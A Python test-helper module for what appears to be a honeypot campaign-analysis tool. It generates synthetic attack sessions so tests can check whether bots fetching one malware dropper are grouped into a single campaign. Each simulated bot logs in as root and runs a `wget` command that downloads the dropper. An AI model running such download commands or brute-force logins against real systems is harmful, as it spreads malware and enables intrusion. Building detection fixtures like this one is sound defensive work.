"""The workflow context the workflow tests run with (also imported by the checkpoint tests' killed
child process), and the window of one dropper campaign among background they analyse."""

from __future__ import annotations

import random

from coord_core.analysis.frame import build_frame
from coord_core.analysis.parameters import AnalysisParameters
from coord_core.contracts.campaigns import RunInfo
from coord_core.contracts.sessions import AttackSession
from coord_core.pipeline.analyze import fingerprint_sessions
from coord_core.store.workflow_state import WorkflowStateRecorder
from coord_core.workflow.graph import WorkflowContext
from coord_core.workflow.tools import ToolCoordinator
from tests.analysis.builders import DROPPER, DROPPER_SHA, background, random_ip, session


def workflow_context(
    sessions: list[AttackSession], recorder: WorkflowStateRecorder | None = None
) -> WorkflowContext:
    return WorkflowContext(
        load_frame=lambda: build_frame(sessions),
        parameters=AnalysisParameters(),
        tools=ToolCoordinator(),
        recorder=recorder,
    )


def dropper_window(seed: int, *, bots: int, background_sources: int) -> list[AttackSession]:
    """``bots`` sources fetching one dropper (one campaign) among independent brute-forcers."""
    rng = random.Random(seed)
    campaign = [
        session(
            random_ip(rng),
            rng.uniform(0, 3000),
            logins=[("root", "x9!")],
            commands=[f"wget {DROPPER}"],
            downloads=[(DROPPER, DROPPER_SHA)],
        )
        for _ in range(bots)
    ]
    return campaign + background(rng, background_sources)


def run_info(sessions: list[AttackSession]) -> RunInfo:
    """The run record of a test's analysis of ``sessions``."""
    return RunInfo(
        input_fingerprint=fingerprint_sessions(sessions),
        parameters={},
        code_version="test",
        session_count=len(sessions),
    )
